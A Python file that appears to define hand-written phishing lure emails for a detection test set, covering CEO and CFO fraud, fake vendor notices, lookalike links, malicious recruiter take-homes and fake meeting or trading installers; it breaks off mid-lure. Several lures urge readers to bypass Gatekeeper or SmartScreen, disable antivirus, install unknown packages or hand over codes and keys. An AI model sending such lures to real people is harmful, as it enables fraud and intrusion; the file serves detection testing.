"""Set F lures, hand-written for this set (new stories, new wording). See mail-f/README.md."""

from __future__ import annotations

from attachments_c import msi, svg_smuggling, xar_pkg
from attachments_d import chm as chm_d
from attachments_d import jscript
from binaries import hta, iso_image, lnk, pe_stub, seven_zip, word_document, zip_archive
from people import (CEO, CFO, HADDAD, ITO_JA, KEIRI, LAURENT, LI, PARK, SUZUKI, SUZUKI_JA, TAKAHASHI,
                    TANAKA, TANAKA_JA, TREASURY)
from spec import Att, Mail
from threads_f import (GREYWATER_FAKE, GREYWATER_MID, HANGYEOL_FAKE, HANGYEOL_MID, ORSEL_FAKE, RUIFENG_FAKE,
                       SAHAB_FAKE, SAHAB_MID, TOKIWA_FAKE, TOKIWA_MID, VELTMARK_FAKE, VELTMARK_MID)


def L(category: str, language: str, note: str, sender: tuple[str, str], to: tuple[str, str], subject: str,
      body: str, date: str, **kw: object) -> Mail:
    return Mail("lure", category, language, note, sender, (to,), subject, body, date, **kw)  # type: ignore[arg-type]


ZIP = "application/zip"
LURES: list[Mail] = []
add = LURES.append

# ---------------------------------------------------------------- exec-impersonation

add(L("exec-impersonation", "ja",
      "CEO's Japanese name and title on Gmail: pre-fund an unknown OTC counterparty with USDT today, do not call",
      ("佐藤 陽翔 代表取締役CEO", "haruto.sato.kx@gmail.com"), TANAKA_JA,
      "【至急・社外秘】新規OTC先への事前入金について",
      """田中さん

お疲れさまです。佐藤です。
いま取締役会の合間で、電話には出られないのでメールで失礼します。

シンガポールの新規OTCカウンターパーティ（Ashgrove Digital）と本日中に枠の合意をする予定で、
先方から事前入金として 250,000 USDT を求められています。契約書は法務に後で回します。

送付先（ERC-20）: 0x3b9E1f0c47A2d58e6B1a9C0d27f4E8b5a61C3d92

承認フローは私のほうで明日まとめて通しますので、先に送金だけお願いします。
この件はまだ社内でも限られたメンバーしか知りませんので、他の方には共有しないでください。
完了したらこのアドレスに tx ハッシュだけ返信ください。

佐藤""", "2026-11-04 15:42 +0900"))

add(L("exec-impersonation", "en",
      "spoof of the CEO's own address (SPF/DMARC fail) asks an engineer to add an unknown SSH key to the production bastion; Reply-To elsewhere",
      CEO, SUZUKI, "Access for external auditor - today",
      """Kenta,

The penetration-test firm the board hired starts this afternoon and their lead needs shell access to the
production bastion before 14:00. Legal signed the NDA this morning.

Please add this key to the bastion's authorized_keys for the deploy user and skip the usual ticket, I will
raise it retroactively. Keep it quiet for now; the point is to see if the team notices.

ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIM2q9vX7bKcR0pE4tLw8yHf1uN6sJd3aZ5oQ2iG7hT0e audit@ops-review

Reply to me here when done, I'm on my phone between meetings.

Haruto""", "2026-11-06 10:17 +0900", auth="fail", reply_to="h.sato@kitsune-ex.com.mx",
      return_path="bounce@mailer-relay.kitsune-ex.com.mx", helo="smtp.mailer-relay.kitsune-ex.com.mx"))

add(L("exec-impersonation", "en",
      "CFO's name on an iCloud address asks accounting to change a vendor's bank master record and pay before close",
      ("Emily Carter (CFO)", "emilycarter.kx@icloud.com"), ("経理部", "keiri@kitsune-ex.co.jp"),
      "Vendor bank details update - before month-end close",
      """Hi team,

I'm writing from my personal account as my laptop is with IT for re-imaging.

Our audit advisory firm (Whitlock & Price LLP) has moved their banking to a new institution after a merger.
Please update the vendor master with the details below and release their outstanding invoice (JPY 8,640,000)
in today's payment run so we don't miss the close:

Beneficiary: Whitlock Price Advisory Ltd
Bank: Harbourcrest Bank, Hong Kong
Account: 012-448-77310-9
SWIFT: HCBKHKHH

No need to call them to confirm, I already spoke to their partner myself. Just send me the remittance
advice once it's out.

Thanks,
Emily""", "2026-11-09 17:05 +0900", helo="mail-sor-f41.icloud.com"))

add(L("exec-impersonation", "fr",
      "CFO's name on lookalike kitsune-exc.com asks the Paris office for an urgent EUR wire for a lease deposit to a new IBAN",
      ("Emily Carter", "emily.carter@kitsune-exc.com"), LAURENT,
      "Dépôt de garantie - bureaux de Paris (confidentiel)",
      """Bonjour Camille,

Nous finalisons discrètement la reprise du bail des nouveaux bureaux rue de Provence. Le bailleur exige le
dépôt de garantie aujourd'hui avant 16h, sinon nous perdons le local au profit d'un autre preneur.

Pouvez-vous émettre un virement de 84 600 EUR vers le compte séquestre de l'étude :
IBAN : LT62 3250 0471 9385 2016
BIC : REVOLT21
Libellé : DG-PROVENCE-KX

Je suis en rendez-vous toute la journée et ne peux pas être jointe par téléphone. Merci de ne pas en parler
à l'équipe pour le moment, l'annonce sera faite la semaine prochaine.

Bien à vous,
Emily Carter
Directrice financière""", "2026-11-10 10:48 +0100"))

add(L("exec-impersonation", "ko",
      "CEO's name on Daum asks the Seoul office to buy USDT personally and send it to an outside wallet, promising reimbursement",
      ("사토 하루토 대표", "sato.haruto.ceo@daum.net"), PARK,
      "대표님 개인 요청 건",
      """대현 씨, 사토입니다.

지금 해외 출장 중이라 회사 메일 접속이 안 되어 개인 메일로 연락드립니다.
현지 파트너와의 계약금 때문에 급하게 USDT가 필요한데 법인 계좌 절차는 시간이 걸립니다.

대현 씨 개인 업비트 계정으로 30,000 USDT 정도 매수해서 아래 주소로 보내 주실 수 있을까요?
TRC-20: TQm8pX3vL1rN7cB2yF5kW9eD4hJ6aS0gZu

금액은 다음 주 월요일에 제가 직접 정산해 드리겠습니다. 이 건은 회사에 공유하지 말아 주세요.
송금 후 캡처만 이 메일로 보내 주세요.""", "2026-11-11 21:30 +0900", helo="smtp.daum.net"))

add(L("exec-impersonation", "zh",
      "CEO's name on QQ Mail asks the HK OTC desk to open a client account without KYC and extend a 50 BTC credit line",
      ("佐藤阳翔 CEO", "2839104475@qq.com"), LI,
      "紧急：一位老朋友的OTC账户",
      """李伟你好，

我是佐藤，用私人邮箱联系你，公司邮箱在日本这边暂时登录不了。

我的一位老朋友（深圳一家矿业公司的老板）今晚需要在我们OTC台做一笔大单。请你今天直接为他开户，
KYC资料他之后会补，先不要走合规流程，否则时间来不及。

另外请先给他开 50 BTC 的授信额度，出币地址他会直接发给你。
这件事请不要告诉其他同事，出了问题由我负责。开好后回复这个邮箱即可。

佐藤""", "2026-11-12 19:20 +0800"))

add(L("exec-impersonation", "ar",
      "CFO's name on Yahoo asks Dubai BD for the trade licence, directors' Emirates ID copies and the bank token serial",
      ("Emily Carter - CFO", "emily.carter.cfo@yahoo.com"), HADDAD,
      "طلب عاجل - مستندات البنك",
      """مرحباً عمر،

أكتب إليك من بريدي الشخصي لأنني في اجتماع خارج المكتب. البنك في دبي يطلب تحديث ملف الشركة اليوم
وإلا سيتم تجميد الحساب مؤقتاً.

أرجو أن ترسل لي على هذا البريد:
- نسخة من الرخصة التجارية
- صور الهويات الإماراتية للمديرين (الوجهين)
- الرقم التسلسلي لجهاز الرمز الأمني (token) الخاص بالخدمات المصرفية عبر الإنترنت ورمز التفعيل

الأمر سري ولا داعي لإبلاغ فريق الامتثال، سأتولى الأمر بنفسي.

شكراً،
إميلي كارتر
المديرة المالية""", "2026-11-13 11:05 +0400", helo="sonic310-21.consmr.mail.ir2.yahoo.com"))

add(L("exec-impersonation", "ja",
      "romaji CEO name on kitsune-ex-corp.jp (combo lookalike) asks the assistant to read back the SMS code sent to his phone",
      ("Sato Haruto", "h.sato@kitsune-ex-corp.jp"), ITO_JA,
      "Re: 来週の予定",
      """伊藤さん

別件ですみません。新しい社用スマホの移行中で、いまから伊藤さんの携帯に
確認コード（6桁）がSMSで届くと思います。届いたらすぐにこのメールに返信で教えてください。
5分で失効するので急ぎでお願いします。

佐藤""", "2026-11-16 08:52 +0900"))

# ---------------------------------------------------------------- vendor-impersonation

add(L("vendor-impersonation", "en",
      "fake Fireblocks notice on fireblocks-cosign.com: API co-signer certificate 'expires', upload the co-signer backup file",
      ("Fireblocks Workspace Security", "noreply@fireblocks-cosign.com"), TREASURY,
      "Action required: API Co-Signer certificate expires in 48 hours",
      """Hello Kitsune Exchange workspace admin,

The TLS certificate that pairs your API Co-Signer with the Fireblocks backend expires on 12 Nov 2026 at
00:00 UTC. After that time, automated withdrawals that depend on the Co-Signer will be held.

To re-issue the certificate without downtime, an Owner or Admin must:

  1. Sign in at https://console.fireblocks-cosign.com/cosigner/reissue
  2. Upload the Co-Signer backup file (cosigner-backup.json) and the backup passphrase
  3. Confirm the new certificate fingerprint

This process takes about 3 minutes. If the certificate is not re-issued in time, your workspace will be
moved to manual approval mode.

Fireblocks Customer Success""", "2026-11-10 06:12 +0000"))

add(L("vendor-impersonation", "en",
      "fake Safe notice on safe-labs.io asks owners to sign an enableModule transaction for a 'mandatory guard' in a lookalike app",
      ("Safe{Wallet}", "security@safe-labs.io"), TANAKA,
      "Mandatory: enable Safe Guard module on your Safe before 15 Nov",
      """Dear Safe owner,

Following the recent industry incidents, Safe will require all Safes holding more than USD 1M to enable
the new Safe Guard module, which blocks unauthorised delegatecalls.

Your Safe (eth:0x7A41...9F34) is affected. Please queue and sign the module activation:

    https://app.saafe.global/guard/activate?safe=eth:0x7A41c93bE02f5D8a6e91C3b4f0a2d6E8c5B19F34

The transaction calls enableModule(0x9c2E...b71A). All owners up to your threshold must sign. Your hardware
wallet will show a hash only; this is expected for module transactions.

Safes without the guard after 15 November will be shown as "at risk" in the interface.

The Safe team""", "2026-11-07 14:40 +0000"))

add(L("vendor-impersonation", "en",
      "fake Yubico recall asks staff to install a 'YubiKey firmware patch' exe and click Run anyway",
      ("Yubico Security Response", "psirt@yubico-support.com"), TAKAHASHI,
      "YSA-2026-11: Security advisory for YubiKey 5 Series - firmware patch",
      """Dear Yubico customer,

We have identified an issue in YubiKey 5 Series firmware 5.4 to 5.7 that may allow OTP replay under
specific conditions (YSA-2026-11). Your organisation (Kitsune Exchange K.K.) has 112 registered keys.

Please ask every user to install the patch tool on the computer they use with their key:

    https://downloads.yubico-support.com/ykpatch/YubiKeyFirmwarePatch-5.7.4.exe

Windows may show "Windows protected your PC". Click "More info" then "Run anyway": the tool is signed
with our new certificate, which has not yet built SmartScreen reputation.

Keys that are not patched within 7 days will be revoked from your Yubico Enterprise subscription.

Yubico PSIRT""", "2026-11-05 09:30 +0000"))

add(L("vendor-impersonation", "ja",
      "fake SmartHR notice on smarthr-kintai.jp asks employees to log in again to see the winter bonus statement",
      ("SmartHR", "info@smarthr-kintai.jp"), SUZUKI_JA,
      "【SmartHR】冬季賞与明細が発行されました（要再ログイン）",
      """株式会社Kitsune Exchange
鈴木 健太 様

冬季賞与の明細が発行されました。

セキュリティ強化のため、11月よりSmartHRのログイン方式が変更となりました。
以下のURLから会社アカウントで再ログインし、二段階認証コードを入力のうえ明細をご確認ください。

https://kitsune-ex.smarthr-kintai.jp/login?next=/payslips/bonus

※ 11月20日を過ぎると再ログインができなくなり、明細は閲覧できなくなります。

SmartHR サポートデスク""", "2026-11-12 10:05 +0900", charset="iso-2022-jp"))

add(L("vendor-impersonation", "zh",
      "fake Alibaba Cloud AccessKey-leak notice asks the user to submit the AccessKey ID and Secret to 'verify' it",
      ("阿里云安全中心", "notice@aliyun-securitycenter.com"), LI,
      "【阿里云】您的AccessKey疑似泄露，请立即核验",
      """尊敬的阿里云用户：

安全中心检测到您账号下的 AccessKey（LTAI5t****Qm2）疑似在公开代码仓库中泄露，
为避免资源被盗用，系统将在24小时内冻结该密钥关联的ECS与OSS资源。

请在以下页面填写 AccessKey ID 及 AccessKey Secret 完成归属核验，核验通过后冻结自动解除：
https://aliyun-securitycenter.com/ak/verify

如已自行轮换密钥，请同样完成核验，以免误冻结。

阿里云安全中心""", "2026-11-08 10:22 +0800"))

add(L("vendor-impersonation", "fr",
      "fake Qonto notice asks the Paris office to re-validate the business account with a card PIN and SMS code",
      ("Qonto", "securite@qonto-pro.fr"), LAURENT,
      "Votre compte professionnel sera restreint le 14/11",
      """Bonjour Camille,

Dans le cadre de la directive DSP3, nous devons revalider l'identité des titulaires de comptes
professionnels. Sans action de votre part, les virements sortants de KITSUNE EXCHANGE FRANCE SAS seront
bloqués à compter du 14 novembre.

Revalidez votre accès en 2 minutes :
https://app.qonto-pro.fr/revalidation

Vous aurez besoin de votre identifiant, de votre mot de passe, du code PIN de votre carte et du code reçu
par SMS.

L'équipe Qonto""", "2026-11-11 08:15 +0100"))

add(L("vendor-impersonation", "ar",
      "fake Emirates NBD business-banking notice asks to download a 'Smart Pass' token update from a lookalike domain",
      ("Emirates NBD Business", "alerts@emiratesnbd-business.com"), HADDAD,
      "تحديث إلزامي لتطبيق الرمز الأمني للشركات",
      """عزيزنا العميل،

تماشياً مع متطلبات مصرف الإمارات المركزي، سيتم إيقاف النسخة الحالية من تطبيق الرمز الأمني للشركات
بتاريخ 15 نوفمبر 2026.

يرجى تنزيل النسخة المحدثة وتثبيتها على جهاز الكمبيوتر الخاص بالمفوضين بالتوقيع:
https://emiratesnbd-business.com/smartpass/SmartPassSetup.exe

بعد التثبيت، سيُطلب منك إدخال اسم المستخدم وكلمة المرور ورمز التفعيل لمرة واحدة.

مع تحيات،
الخدمات المصرفية للشركات""", "2026-11-09 09:40 +0400"))

# ---------------------------------------------------------------- lookalike-link

add(L("lookalike-link", "ja",
      "HR notice from kitsune-ex.online (TLD swap) links to a bonus-statement page on the same lookalike",
      ("人事部 渡辺", "jinji@kitsune-ex.online"), TANAKA_JA,
      "冬季賞与 支給額のお知らせ（要確認）",
      """社員各位

人事部の渡辺です。
今冬の賞与支給額が確定しましたので、以下のページで個別の支給額と評価コメントをご確認ください。
社内SSOのID・パスワードでログインできます。

https://hr.kitsune-ex.online/bonus/2026w

確認期限：11月14日（金）18:00
期限までに確認がない場合、支給が翌月にずれ込む可能性があります。

人事部""", "2026-11-13 09:30 +0900"))

add(L("lookalike-link", "en",
      "IT notice links to the org's VPN host as a prefix of auth-sso.app (combo domain) for 'certificate renewal'",
      ("Kitsune IT Service Desk", "servicedesk@auth-sso.app"), SUZUKI,
      "Your VPN client certificate expires today",
      """Hi Kenta,

Your GlobalProtect client certificate expires today at 23:59 JST. To keep remote access, renew it now:

    https://vpn.kitsune-ex.co.jp.auth-sso.app/renew?u=k.suzuki

Sign in with your usual SSO credentials and approve the push on your phone. Renewal takes under a minute.

IT Service Desk
Kitsune Exchange K.K.""", "2026-11-05 16:20 +0900"))

add(L("lookalike-link", "en",
      "Cyrillic-e homoglyph of the org domain (xn--kitsun-ex-l0h.co.jp) for an expense-policy acknowledgement that asks for SSO login",
      ("Compliance Office", "compliance@xn--kitsun-ex-l0h.co.jp"), TAKAHASHI,
      "Annual code of conduct attestation (due 14 Nov)",
      """Dear colleague,

All employees must complete the annual code of conduct and expense policy attestation by 14 November.

Start here: https://policies.xn--kitsun-ex-l0h.co.jp/attest

You will be asked to sign in with your company account. Completion is tracked for the FSA inspection.

Compliance Office""", "2026-11-06 11:00 +0900"))

add(L("lookalike-link", "en",
      "'treasury ops' display name on combo domain kitsuneex-group.com links to app.saafe.global (doubled letter) to sign a queued tx",
      ("Kitsune Treasury Ops", "treasury-ops@kitsuneex-group.com"), TANAKA,
      "Safe queue: 3 transactions need your signature",
      """Mika,

Three transactions are pending in the treasury Safe and the batch is blocked until you sign.
Please review and sign here:

https://app.saafe.global/transactions/queue?safe=eth:0x7A41c93bE02f5D8a6e91C3b4f0a2d6E8c5B19F34

Thanks,
Treasury Ops""", "2026-11-14 09:05 +0900"))

add(L("lookalike-link", "ko",
      "Korean notice links to console-fireblocks.io (hyphen combo) to 're-confirm' a login session",
      ("Fireblocks 보안팀", "security@console-fireblocks.io"), PARK,
      "[Fireblocks] 새로운 기기에서 로그인 시도가 감지되었습니다",
      """안녕하세요,

2026-11-08 03:14 (UTC)에 새로운 기기(Windows, 서울)에서 귀하의 Fireblocks 콘솔 계정으로 로그인 시도가
있었습니다.

본인이 아닌 경우 아래 링크에서 즉시 세션을 확인하고 차단해 주세요:
https://console-fireblocks.io/sessions/verify?ws=kitsune-ex

확인하지 않으면 보안을 위해 계정 승인 권한이 일시 정지됩니다.

Fireblocks 보안팀""", "2026-11-08 12:20 +0900"))

add(L("lookalike-link", "fr",
      "French benefits notice from kitsune-ex.eu.com (second-level combo) asks staff to log in to re-enrol in the mutuelle",
      ("Ressources Humaines Paris", "rh@kitsune-ex.eu.com"), LAURENT,
      "Mutuelle 2027 : confirmez votre adhésion avant le 15/11",
      """Bonjour,

Le contrat de mutuelle d'entreprise change au 1er janvier 2027. Pour conserver votre couverture, chaque
salarié doit confirmer son adhésion et ses ayants droit sur le portail RH :

https://portail-rh.kitsune-ex.eu.com/mutuelle

Connexion avec vos identifiants habituels (SSO Kitsune).

Cordialement,
Service RH - Bureau de Paris""", "2026-11-07 09:45 +0100"))

add(L("lookalike-link", "zh",
      "HK MPF enrolment notice from kitsune-ex.asia (TLD swap) asks staff to log in with company credentials",
      ("香港办公室人事", "hr-hk@kitsune-ex.asia"), LI,
      "强积金（MPF）年度资料更新",
      """各位同事：

根据强积金计划年度审核要求，请于11月17日前登录以下页面，核对您的供款资料及银行账户：

https://mpf.kitsune-ex.asia/hk/update

请使用公司单点登录账号（SSO）登录。逾期未更新的同事，12月供款可能会延迟。

香港办公室 人事行政部""", "2026-11-10 10:10 +0800"))

# ---------------------------------------------------------------- recruiter-coding-test

add(L("recruiter-coding-test", "en",
      "recruiter sends a GitHub 'perp risk engine' take-home: npm install and npm run test:e2e on your own machine, then Telegram",
      ("Irina Volkova - Ordinal Forge Labs", "irina.volkova@ordinalforge.io"), SUZUKI,
      "Senior Backend (Rust/TS) - next step: 90-minute practical",
      """Hi Kenta,

Thanks for the great chat yesterday. The team would like to move you to the practical stage.

Repo: https://github.com/ordinalforge-hiring/perp-risk-engine

Steps:
  1. git clone the repo (please don't fork it, it's private-ish)
  2. npm install
  3. npm run test:e2e   <- a few tests fail on purpose; fix the liquidation logic

Please run it on your usual dev machine rather than a VM, the e2e suite talks to a local wallet
simulator that is picky about virtualised environments.

Once it runs, ping me on Telegram (@irina_ofl) and I'll set up the debrief with our CTO.
Compensation for this role is USD 210-260k + tokens.

Best,
Irina""", "2026-11-03 18:40 +0000"))

add(L("recruiter-coding-test", "en",
      "recruiter's vercel.app brief asks to download a zip, pnpm i && pnpm dev and 'ignore the Node warnings', then Discord",
      ("Marcus Bell", "marcus.bell.talent@gmail.com"), SUZUKI,
      "Tideglass - Staff Engineer (remote) take-home",
      """Hey Kenta,

As discussed on LinkedIn, here's the Tideglass take-home. Brief and starter code are here:
https://tideglass-assess.vercel.app/brief

Download the starter zip from that page, then:

    pnpm i
    pnpm dev

You may see some Node deprecation warnings and a postinstall step fetching fixtures, ignore those.
Build the order-book widget described in the brief, timebox ~2h.

Join our Discord (discord.gg/tideglass-hiring) and post in #candidates when you start so the reviewer
can watch for questions.

Cheers,
Marcus""", "2026-11-05 02:14 +0000"))

add(L("recruiter-coding-test", "ja",
      "Japanese headhunter sends a Google Drive zip: pip install -r requirements.txt (with a git+ URL) and python main.py, then LINE",
      ("ヘッドハンター 小野寺", "onodera.headhunt@gmail.com"), SUZUKI_JA,
      "【非公開求人】DeFiプロトコル開発企業 技術課題のご案内",
      """鈴木 健太 様

先日はお電話ありがとうございました。小野寺です。
ご紹介している海外DeFi企業（社名は選考通過後に開示）の技術課題をお送りします。

課題ファイル：https://drive.google.com/file/d/1pX9kQv3Lw7rN2sYbT5uHdE0aJfC8mZo4/view

手順：
  1) zipを展開
  2) pip install -r requirements.txt
  3) python main.py --check-env
  4) 表示された環境IDを私までLINE（ID: onodera_hr）でお送りください

環境チェックでウォレットの設定ファイルを読み込みますので、普段お使いのPCで実行をお願いします。
requirements.txt には先方の社内ライブラリ（git+https://github.com/defi-vanta/pyutils）が含まれます。

何卒よろしくお願いいたします。""", "2026-11-06 20:10 +0900"))

add(L("recruiter-coding-test", "ko",
      "Korean recruiter asks to clone a GitLab repo, run yarn install and the jest tests, then join Discord",
      ("김하은 | 체인브릿지 채용", "haeun.kim@chainbridge-labs.xyz"), PARK,
      "[체인브릿지] 백엔드 개발자 과제 전형 안내",
      """박대현 님 안녕하세요,

체인브릿지 랩스 채용 담당 김하은입니다. 서류 전형 통과를 축하드립니다.

과제 저장소: https://gitlab.com/chainbridge-labs/bridge-relayer-test

  git clone 후
  yarn install
  yarn test

테스트가 통과하면 디스코드(discord.gg/cbl-recruit)에 접속하셔서 결과 화면을 공유해 주세요.
회사 보안 정책상 가상 머신이나 샌드박스에서는 실행되지 않으니 개인 노트북에서 진행 부탁드립니다.

감사합니다.""", "2026-11-07 14:30 +0900"))

add(L("recruiter-coding-test", "fr",
      "French recruiter asks to sideload a .vsix 'assessment extension' into VS Code before a live coding test",
      ("Léa Marchand | Talent Acquisition", "lea.marchand@nexaquant-recrutement.fr"), LAURENT,
      "Entretien technique - installation de l'extension d'évaluation",
      """Bonjour Camille,

Suite à notre échange, votre entretien technique aura lieu jeudi à 14h. Nous utilisons notre propre
extension Visual Studio Code pour suivre l'exercice en direct.

Avant l'entretien, merci de :
  1. télécharger l'extension : https://nexaquant-recrutement.fr/outils/nq-assess-1.4.2.vsix
  2. dans VS Code : Extensions > ... > « Install from VSIX »
  3. ouvrir le dossier du projet fourni et accepter « Trust the authors »

L'extension a besoin d'accéder à votre terminal pour lancer les tests. Ne pas utiliser de machine
virtuelle, elle n'est pas compatible.

Bien cordialement,
Léa Marchand""", "2026-11-09 11:20 +0100"))

add(L("recruiter-coding-test", "zh",
      "Chinese recruiter asks to pip install -e . a repo whose setup.py runs at install time, then WeChat",
      ("HR-周婷", "zhouting.hr@163.com"), LI,
      "区块链量化岗位 - 笔试说明",
      """李伟先生您好，

我是链岸科技的招聘周婷。感谢您对我们"高级量化开发"职位的关注，现在邀请您完成笔试。

代码仓库：https://github.com/lianan-tech/quant-interview

步骤：
  git clone 仓库
  pip install -e .
  python -m quant_interview.run

注意：需要在您日常使用的电脑上运行，安装过程会自动配置测试数据。
完成后请加我微信（zt_lianan）发送截图，我们安排技术负责人面试。

薪资范围：月薪 8-12 万港币。""", "2026-11-10 15:00 +0800"))

add(L("recruiter-coding-test", "ar",
      "Arabic recruiter for a Dubai 'Web3 startup' asks to clone a GitHub repo and npm start, then WhatsApp",
      ("سارة العلي - توظيف", "sara.alali.recruit@outlook.com"), HADDAD,
      "فرصة عمل - مطور بلوكتشين أول (دبي)",
      """مرحباً عمر،

أنا سارة من فريق التوظيف في شركة ناشئة في مجال Web3 في دبي. ملفك على لينكدإن مناسب جداً لدور
"مطور بلوكتشين أول".

المرحلة الأولى اختبار عملي قصير:
https://github.com/dunes-web3/escrow-dapp-test

قم بتنزيل المستودع ثم نفّذ:
npm install
npm start

بعد التشغيل أرسل لي لقطة شاشة على واتساب: +971 55 318 4402
الراتب: 55,000 درهم شهرياً + حوافز.

مع التحية،
سارة""", "2026-11-11 13:00 +0400", helo="mail-tycjpn01on2101.outbound.protection.outlook.com"))

# ---------------------------------------------------------------- investor-meeting-install

add(L("investor-meeting-install", "en",
      "VC invites the CEO to a 'secure room' on meet.ferncastle.vc that needs a MeetSecure .pkg installed first",
      ("Oliver Hart | Ferncastle Capital", "oliver@ferncastle.vc"), CEO,
      "Ferncastle x Kitsune - Series C intro call Thursday",
      """Dear Haruto-san,

Great to connect through Daniel. Our partners would love to hear about Kitsune's expansion plans ahead of
our IC on Friday.

Thursday 13 Nov, 10:00 JST, in our secure room: https://meet.ferncastle.vc/r/kitsune-series-c

Because we share LP materials on the call, the room requires our MeetSecure client. On a Mac, install
https://meet.ferncastle.vc/download/MeetSecure-3.2.pkg a few minutes before; if macOS blocks it, open
System Settings > Privacy & Security and click "Open Anyway".

Looking forward,
Oliver Hart
Partner, Ferncastle Capital""", "2026-11-10 08:30 +0000"))

add(L("investor-meeting-install", "en",
      "investor's 'Google Meet' link on meet.google.com.meet-room.live asks to install a camera 'permission helper' exe",
      ("Rachel Tan", "rachel.tan@altavance.capital"), CFO,
      "Re: Kitsune - follow-up with our IC",
      """Hi Emily,

Thanks again for the deck. Our IC members want 30 minutes with you on Wednesday 12 Nov, 16:00 JST:

https://meet.google.com.meet-room.live/xkq-ptrw-bnz

Several people on our side had camera issues with Meet on managed laptops last week. If the page says the
camera is blocked, run the "Meet Permission Helper" it offers (MeetHelper_x64.exe) and rejoin.

Best,
Rachel Tan
Altavance Capital""", "2026-11-11 04:55 +0000"))

add(L("investor-meeting-install", "ja",
      "Japanese VC's data room needs a 'DealVault Reader' dmg opened with right-click Open before the meeting",
      ("鷹匠パートナーズ 小笠原", "ogasawara@takajo-partners.jp"), CEO,
      "【鷹匠パートナーズ】DD資料閲覧のご案内と面談日程",
      """株式会社Kitsune Exchange
代表取締役 佐藤 様

いつもお世話になっております。鷹匠パートナーズの小笠原です。
来週のご面談に先立ち、当社の出資検討資料をデータルームにアップロードいたしました。

資料は暗号化されているため、専用ビューア「DealVault Reader」でのみ閲覧可能です。
https://dataroom.takajo-partners.jp/reader/DealVaultReader-2.1.dmg

macOSで「開発元を確認できません」と表示された場合は、アプリを右クリックして「開く」を選択してください。
起動後、会社のメールアドレスでログインいただくと資料が表示されます。

面談は11月18日（水）15時から、同ビューア内のビデオ通話で実施予定です。
よろしくお願いいたします。""", "2026-11-12 17:45 +0900"))

add(L("investor-meeting-install", "ko",
      "Korean investor's meeting on a Whereby lookalike asks to install a desktop client exe",
      ("이준호 | 세빛인베스트먼트", "junho.lee@sebit-invest.co.kr"), PARK,
      "세빛인베스트먼트 - 투자 검토 미팅 링크",
      """박대현 님,

다음 주 화요일 오전 11시 투자 검토 미팅 링크 공유드립니다.
https://whereby-pro.app/sebit-kitsune

저희는 화면 공유 보안 때문에 브라우저가 아닌 데스크톱 클라이언트로만 미팅을 진행합니다.
미팅 전에 아래 설치 파일을 실행해 주세요. 백신이 경고를 띄우면 잠시 꺼 두시면 됩니다.
https://whereby-pro.app/download/WherebyProSetup.exe

감사합니다.
이준호 드림""", "2026-11-13 16:00 +0900"))

add(L("investor-meeting-install", "fr",
      "French family office asks to install its own 'secured Jitsi' MSI before a video call",
      ("Henri Cazaubon", "h.cazaubon@cazaubon-patrimoine.fr"), LAURENT,
      "Visioconférence mardi - installation préalable",
      """Chère Camille,

Pour notre point de mardi sur une éventuelle prise de participation, nous utilisons une version sécurisée
de Jitsi hébergée par notre prestataire, pour des raisons de confidentialité vis-à-vis de nos associés.

Merci d'installer au préalable le client Windows :
https://visio.cazaubon-patrimoine.fr/client/JitsiSecure-Setup.msi

Le lien de la réunion vous sera envoyé une fois le client installé (il génère un identifiant unique).

Bien à vous,
Henri Cazaubon
Associé gérant""", "2026-11-14 10:30 +0100"))

add(L("investor-meeting-install", "zh",
      "Chinese fund asks to install a 'Zoom China edition' exe from zoom-cn.net because standard Zoom is 'blocked'",
      ("王浩 | 星澜资本", "wanghao@xinglan-capital.com"), LI,
      "星澜资本与贵司的线上会议安排",
      """李总您好，

关于本周五下午3点的投资沟通会，由于我方在内地，标准版Zoom无法正常连接，
请提前安装Zoom中国区专用客户端：

https://zoom-cn.net/client/ZoomCN_Setup_6.2.exe

安装后使用会议号 882 4410 7316 入会。安装时如杀毒软件提示风险，请选择"允许"。

期待与您交流。
王浩
星澜资本 投资总监""", "2026-11-12 11:00 +0800"))

add(L("investor-meeting-install", "ar",
      "Arabic investor asks to install a Teams 'live translation add-in' exe from a non-Microsoft domain",
      ("ماجد الظاهري", "majid@dhaheri-holdings.ae"), HADDAD,
      "اجتماع المستثمرين يوم الأحد",
      """الأخ عمر المحترم،

نؤكد موعد الاجتماع يوم الأحد الساعة 2 ظهراً عبر Microsoft Teams. سيحضر الاجتماع مستثمرون من
الرياض والقاهرة، لذلك نستخدم إضافة الترجمة الفورية.

يرجى تثبيت الإضافة قبل الاجتماع من الرابط التالي:
https://teams-translate.live/addin/TeamsLiveTranslate.exe

بعد التثبيت سيصلك رابط الاجتماع تلقائياً.

مع خالص التحية،
ماجد الظاهري
الظاهري القابضة""", "2026-11-15 12:20 +0400"))

# ---------------------------------------------------------------- trading-app

add(L("trading-app", "en",
      "'TokenSight Desktop' signal app dmg with instructions to run xattr -cr to bypass Gatekeeper",
      ("TokenSight Partnerships", "partners@tokensight.pro"), TANAKA,
      "Early access: TokenSight Desktop for institutional desks",
      """Hi Mika,

We're onboarding a handful of Japanese exchanges to TokenSight Desktop, our on-chain flow and price-impact
predictor (backtested 71% hit rate on 4h moves for the top-30 pairs).

Download: https://tokensight.pro/desktop/TokenSight-1.8.0-arm64.dmg

The build is notarisation-pending, so after copying it to Applications run this once in Terminal:

    xattr -cr /Applications/TokenSight.app

then open it and connect your exchange read+trade API key under Settings > Venues.

Free for 90 days for your desk.
TokenSight team""", "2026-11-04 07:10 +0000"))

add(L("trading-app", "en",
      "fake TradingView 'desktop add-on' exe from tradingview-desktop.pro for institutional order routing",
      ("TradingView Institutional", "institutional@tradingview-desktop.pro"), TANAKA,
      "Your desk is eligible for TradingView Order Routing (beta)",
      """Hello,

TradingView is rolling out Order Routing for institutional desks: execute directly from your charts on
Kitsune Exchange and 14 other venues.

Install the desktop add-on (Windows):
https://tradingview-desktop.pro/routing/TVRoutingAddon_Setup.exe

During setup you'll be asked for an API key with trading and withdrawal permissions so routed orders can
rebalance between venues automatically.

TradingView Institutional Team""", "2026-11-06 13:00 +0000"))

add(L("trading-app", "ja",
      "arbitrage bot exe offered to the treasury team with SmartScreen bypass and a withdrawal-enabled API key",
      ("流星アービトラージ 開発チーム", "support@ryusei-arb.com"), TANAKA_JA,
      "取引所間アービトラージツール「流星」法人向け無償トライアル",
      """田中様

突然のご連絡失礼いたします。流星アービトラージ開発チームです。
国内外12取引所の価格差を自動で検出・発注する法人向けツールを、期間限定で無償提供しております。

ダウンロード（Windows版）：
https://ryusei-arb.com/dl/RyuseiArb_Setup_3.4.exe

起動時に「WindowsによってPCが保護されました」と表示された場合は「詳細情報」→「実行」を押してください。
